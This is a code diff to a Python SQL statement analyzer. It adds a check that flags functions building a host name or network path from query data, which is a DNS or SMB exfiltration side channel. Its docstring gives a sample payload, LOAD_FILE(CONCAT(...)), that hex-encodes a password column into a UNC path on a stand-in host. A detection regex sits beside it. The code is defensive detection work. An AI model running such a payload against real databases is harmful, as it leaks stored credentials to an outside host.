@@ -138,6 +138,12 @@ def _check_function(statement: _Statement, node: exp.Expr) -> None:
             for arg in node.iter_expressions()
             if (isinstance(arg, exp.Literal) and arg.is_string) or isinstance(arg, exp.RawString)
         ]
+        if I.HOST_ACCESS in rule.intents and _network_name_from_data(node):
+            statement.add(
+                I.EXPORT,
+                f"{name}(): builds a host name or network path from query data: resolving it "
+                "carries the data out (a DNS or SMB side channel)",
+            )
         if _in_own_network(rule, node):
             where = "this machine" if rule.own_network == "conninfo" else OWN_HOST
             statement.add(I.READ, f"{name}(): reads from {where}")
@@ -163,6 +169,24 @@ def _check_function(statement: _Statement, node: exp.Expr) -> None:
             f"{statement.dialect_name} a function can change data, so this is a CALL whose "
             "body is not visible here",
         )
+
+
+# A literal piece of a host name or network path: a UNC prefix (\\\\), a URL scheme, or a
+# domain suffix (`.k.example.net`, `.r.oastify.com\\x`).
+_NETWORK_PIECE = re.compile(r"(?i)^\\\\|://|^\.(?:[a-z0-9-]+\.)+[a-z]{2,}(?:[\\/:]|$)")
+
+
+def _network_name_from_data(node: exp.Expr) -> bool:
+    """An argument that joins query data (a column, a subquery) with a piece of a host name or
+    network path: `LOAD_FILE(CONCAT('\\\\', (SELECT hex(pw) ...), '.x.net\\a'))`."""
+    for argument in node.iter_expressions():
+        parts = list(argument.walk())
+        if any(isinstance(part, exp.Column | exp.Subquery | exp.Select) for part in parts) and any(
+            isinstance(part, exp.Literal) and part.is_string and _NETWORK_PIECE.search(part.this)
+            for part in parts
+        ):
+            return True
+    return False
 
 
 def _in_own_network(rule: FunctionRule, node: exp.Expr) -> bool:
